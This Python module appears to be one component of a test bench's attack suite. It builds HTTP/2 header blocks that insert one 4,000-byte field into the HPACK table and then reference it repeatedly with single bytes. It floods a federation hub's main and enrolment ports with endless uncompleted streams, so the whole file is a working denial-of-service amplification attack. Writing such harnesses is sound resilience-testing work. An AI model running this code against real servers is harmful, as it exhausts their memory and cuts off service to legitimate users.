"""Header blocks that are small on the wire and large once they are unpacked: one field of 4,000 bytes is put into the
table of each connection, and every call then names it again and again, with one byte each time (RFC 7541).

By a member at the main port, and by nobody at the enrolment port.
"""

from __future__ import annotations

import contextlib
import functools
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Final

from bench.attacks.frames import (
    END_HEADERS,
    HEADERS,
    HEADS,
    JOIN,
    Target,
    call_headers,
    dial,
    frame,
    settings,
    target,
)
from bench.attacks.process import running

if TYPE_CHECKING:
    from bench.federation import Federation

VALUE: Final = 4_000
NAMED: Final = 15
"""Times a call: just under the 64 KiB that a hub of before took."""
CALLS: Final = 3_000
CONNECTIONS: Final = 8
PAUSE: Final = 0.2
_NEWEST: Final = bytes([0x80 | 62])
"""The field that was put into the table last."""


def opening(path: str) -> bytes:
    """The calls of one connection, none of which is ever completed."""
    length = b"\x7f" + bytes([(VALUE - 127) & 0x7F | 0x80, (VALUE - 127) >> 7])
    put = b"\x40\x01x" + length + b"v" * VALUE
    begun = []
    for number in range(CALLS):
        block = call_headers(path) + (put if number == 0 else b"") + _NEWEST * NAMED
        begun.append(frame(HEADERS, END_HEADERS, 2 * number + 1, block))
    return settings() + b"".join(begun)


def run(at: Target) -> None:
    """Opens connection after connection, and holds the last `CONNECTIONS` of each port."""
    opens = (
        functools.partial(dial, at.main, at, opening(HEADS)),
        functools.partial(dial, at.enrolment, None, opening(JOIN)),
    )
    held = []
    while True:
        for opened in opens:
            with contextlib.suppress(OSError):
                held.append(opened())
        while len(held) > 2 * CONNECTIONS:
            held.pop(0).close()
        time.sleep(PAUSE)


@contextmanager
def attack(made: Federation, member: str) -> Iterator[None]:
    """By `member`, until the context ends."""
    with running(run, target(made, member)):
        yield
